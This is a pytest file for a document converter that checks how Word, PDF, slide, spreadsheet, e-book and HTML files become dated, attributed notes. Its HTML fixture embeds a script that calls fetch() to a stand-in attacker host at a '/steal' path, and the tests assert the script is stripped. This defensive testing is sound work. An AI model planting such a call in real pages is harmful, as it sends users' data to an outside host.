"""Word, PDF, slides, spreadsheets, books and web pages as notes, dated and attributed by their own metadata,
and a long document split into parts that fit the size limit."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from memserver.convert import spreadsheet
from memserver.convert.errors import ConversionError
from memserver.convert.isolated import convert_isolated
from memserver.convert.note import Note, split_to_fit
from memserver.kb.frontmatter import read_frontmatter
from tests.memserver.convert.originals import (
    write_docx,
    write_epub,
    write_pdf,
    write_pptx,
    write_xlsx,
)

PAGE = b"""<html><head><title>Ibis onboarding</title>
<meta name="author" content="Alice Chen"><meta name="date" content="2026-07-01">
<script>fetch('https://attacker.example/steal')</script></head>
<body><h1>Ibis onboarding</h1><p>New Ibis users get a tablet on day one.</p>
<img src="https://tracker.example/pixel.png"></body></html>"""


def test_a_docx_is_dated_and_attributed_by_its_core_properties(tmp_path: Path) -> None:
    [note] = convert_isolated("docx", "handbook.docx", write_docx(tmp_path / "h.docx").read_bytes())
    assert (note.title, note.date, note.author) == (
        "Falcon warehouse handbook",
        dt.date(2026, 8, 3),
        "Maria Lopez",
    )
    assert "## Safety" in note.body and "renew their Falcon safety badge" in note.body
    text = note.render()
    assert text.count("# Falcon warehouse handbook") == 1
    assert read_frontmatter(text)["author"] == "Maria Lopez"


def test_a_pdf_and_a_deck_carry_their_info_and_a_page_is_read_without_running_it(
    tmp_path: Path,
) -> None:
    [pdf] = convert_isolated("pdf", "osprey.pdf", write_pdf(tmp_path / "o.pdf").read_bytes())
    assert (pdf.title, pdf.date, pdf.author) == (
        "Osprey integration report",
        dt.date(2026, 10, 12),
        "Tom Becker",
    )
    assert "passed its load test at 900 trucks" in pdf.body
    [deck] = convert_isolated("pptx", "heron.pptx", write_pptx(tmp_path / "h.pptx").read_bytes())
    assert (deck.date, deck.author) == (dt.date(2026, 9, 30), "Priya Shah")
    assert "Heron per-seat price rises to $14" in deck.body
    [page] = convert_isolated("html", "ibis.html", PAGE)
    assert (page.title, page.date, page.author) == (
        "Ibis onboarding",
        dt.date(2026, 7, 1),
        "Alice Chen",
    )
    assert "tablet on day one" in page.body and "fetch(" not in page.body


def test_a_workbook_is_a_table_per_sheet_dated_and_attributed_by_its_properties(
    tmp_path: Path,
) -> None:
    [note] = convert_isolated("xlsx", "costs.xlsx", write_xlsx(tmp_path / "c.xlsx").read_bytes())
    assert (note.title, note.date, note.author) == (
        "Kite fleet costs",
        dt.date(2026, 9, 15),
        "Alex Kim",
    )
    assert note.body == (
        "## Q4 budget\n\n"
        "| Item | Owner | Amount (USD) | Due |\n"
        "|---|---|---|---|\n"
        "| Kite van leases | Alex Kim | 36000 | 2026-12-01 |\n"
        "| Kite fuel cards | Maria Lopez | 8200 |  |"
    )  # the empty sheet is left out, an empty cell is empty


def test_a_workbook_past_the_cell_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "MAX_CELLS", 6)
    data = write_xlsx(tmp_path / "c.xlsx").read_bytes()
    with pytest.raises(ConversionError, match=r"costs.xlsx holds over 6 cells"):
        spreadsheet.xlsx_markdown(data, "costs.xlsx")


def test_a_book_is_dated_and_attributed_by_its_package_and_read_without_running_it(
    tmp_path: Path,
) -> None:
    [book] = convert_isolated("epub", "manual.epub", write_epub(tmp_path / "m.epub").read_bytes())
    assert (book.title, book.date, book.author) == (
        "Kite driver manual",
        dt.date(2026, 6, 15),
        "Priya Shah",
    )
    assert "# Returns" in book.body and "van keys to the Aurora depot by 19:00" in book.body
    assert "fetch(" not in book.body


def test_a_long_note_is_split_by_headings_into_parts_that_fit() -> None:
    sections = "\n\n".join(f"## Section {i}\n\n" + "Heron facts. " * 300 for i in range(12))
    note = Note("Heron manual", sections, dt.date(2026, 5, 1), "Tom Becker", name="manual")
    parts = split_to_fit(note, 12_000)
    assert len(parts) > 3
    assert parts and all(len(p.render().encode()) <= 12_000 for p in parts)
    assert parts and all(p.date == note.date and p.author == "Tom Becker" for p in parts)
    assert parts[0].title == f"Heron manual (part 1 of {len(parts)})"
    assert parts and all(p.body.split("\n\n", 2)[1].startswith("## Section") for p in parts)
    joined = "".join(p.body for p in parts)
    assert [i for i in range(12) if f"## Section {i}\n" not in joined] == []  # nothing lost


def test_a_conversion_past_its_time_limit_is_stopped_with_the_reason(tmp_path: Path) -> None:
    data = write_docx(tmp_path / "h.docx").read_bytes()
    with pytest.raises(ConversionError, match=r"took longer than 0 s and was stopped"):
        convert_isolated("docx", "handbook.docx", data, seconds=0.05)
